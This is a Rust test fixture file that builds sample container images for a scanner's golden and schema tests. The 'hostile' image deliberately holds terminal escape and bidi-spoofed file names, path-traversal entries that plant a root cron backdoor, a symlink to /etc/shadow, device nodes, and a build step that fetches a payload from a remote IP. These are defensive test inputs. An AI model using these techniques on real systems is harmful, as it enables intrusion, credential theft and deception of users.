//! The sample images the golden and schema tests scan, built in code (deterministic: fixed
//! mtimes and dates, so the same spec always gives the same digests). Included by
//! `tests/golden.rs` and `tests/schemas.rs` with `#[path]`.

#![allow(dead_code)] // each test binary uses a subset

use std::path::Path;

use customs_test_support::fixtures::{
    Compression, EICAR, Entry, ImageSpec, LayerSpec, write_docker_archive_legacy, write_oci_layout,
    write_oci_multiplatform,
};

fn app_layer() -> LayerSpec {
    LayerSpec::new(vec![
        Entry::dir("etc"),
        Entry::file("etc/os-release", "PRETTY_NAME=\"golden\"\nID=golden\n"),
        Entry::dir("app"),
        Entry::file("app/README", "A harmless sample application.\n"),
    ])
    .created_by("COPY app/ /app/ # golden")
}

/// One gzip layer of ordinary files.
pub fn clean() -> ImageSpec {
    ImageSpec::new(vec![app_layer()]).cmd(&["/app/run"])
}

/// The EICAR file added by one layer (zstd) and deleted by the next: still shipped.
pub fn eicar_deleted() -> ImageSpec {
    ImageSpec::new(vec![
        app_layer(),
        LayerSpec::new(vec![Entry::file("app/eicar.com", EICAR)])
            .compression(Compression::Zstd)
            .created_by("COPY eicar.com /app/ # golden"),
        LayerSpec::new(vec![Entry::Whiteout("app/eicar.com".into())])
            .created_by("RUN rm /app/eicar.com # golden"),
    ])
}

/// Everything a hostile image does to a scanner and to the terminal that shows its report:
/// names with control and bidi characters, `..` and absolute tar names, a link out of the
/// root, device nodes, a duplicate entry, and a build step that pulled a URL.
pub fn hostile() -> ImageSpec {
    let mut spec = ImageSpec::new(vec![
        LayerSpec::new(vec![
            Entry::dir("tmp"),
            // ESC ] 0 ; … BEL would set the terminal title; ESC [ 2 J would clear it.
            Entry::file("tmp/\x1b]0;pwned\x07\x1b[2Jinvoice.com", EICAR),
            Entry::RawName {
                name: b"../../etc/cron.d/backdoor".to_vec(),
                data: b"* * * * * root /tmp/x\n".to_vec(),
            },
            Entry::RawName {
                name: b"/abs/file".to_vec(),
                data: b"absolute\n".to_vec(),
            },
            Entry::symlink("lib/escape", "../../../../etc/shadow"),
            Entry::CharDevice {
                path: "tmp/sda".into(),
                major: 8,
                minor: 0,
            },
            Entry::CharDevice {
                path: "dev/null".into(),
                major: 1,
                minor: 3,
            },
            // U+202E turns the rest of the name around on screen: `exe.pdf` reads `fdp.exe`.
            Entry::file("usr/bin/report\u{202e}fdp.exe", "one\n"),
            Entry::file("usr/bin/report\u{202e}fdp.exe", "two\n"),
        ])
        .compression(Compression::None)
        .created_by("ADD https://203.0.113.7/payload.tar.gz / # buildkit"),
    ]);
    spec.extra_history = vec!["/bin/sh -c #(nop)  CMD [\"sh\"]".into()];
    spec.platform("linux", "arm64", Some("v8"))
        .entrypoint(&["/bin/sh", "-c"])
        .label("org.opencontainers.image.title", "hostile")
}

/// Writes `spec` as an OCI layout in `dir` tagged `golden`; returns the target string.
pub fn oci(dir: &Path, spec: &ImageSpec) -> String {
    std::fs::create_dir_all(dir).expect("create the layout directory");
    write_oci_layout(dir, &[("golden", spec)]).expect("write the OCI layout");
    format!("oci:{}:golden", dir.display())
}

/// Writes `spec` as a legacy `docker save` archive named `repo_tag`; returns the target.
pub fn docker_archive(path: &Path, repo_tag: &str, spec: &ImageSpec) -> String {
    write_docker_archive_legacy(path, &[repo_tag], spec).expect("write the docker archive");
    format!("docker-archive:{}", path.display())
}

/// A two-platform OCI layout (linux/amd64 clean, linux/arm/v7 with the deleted EICAR
/// file); returns the target.
pub fn multiplatform(dir: &Path) -> String {
    std::fs::create_dir_all(dir).expect("create the layout directory");
    let amd64 = clean();
    let arm = eicar_deleted().platform("linux", "arm", Some("v7"));
    write_oci_multiplatform(dir, "multi", &[&amd64, &arm]).expect("write the index");
    format!("oci:{}:multi", dir.display())
}

/// A target that names an OCI layout that does not exist: the scan must end in `error`.
pub fn missing(dir: &Path) -> String {
    format!("oci:{}:golden", dir.join("no-such-layout").display())
}
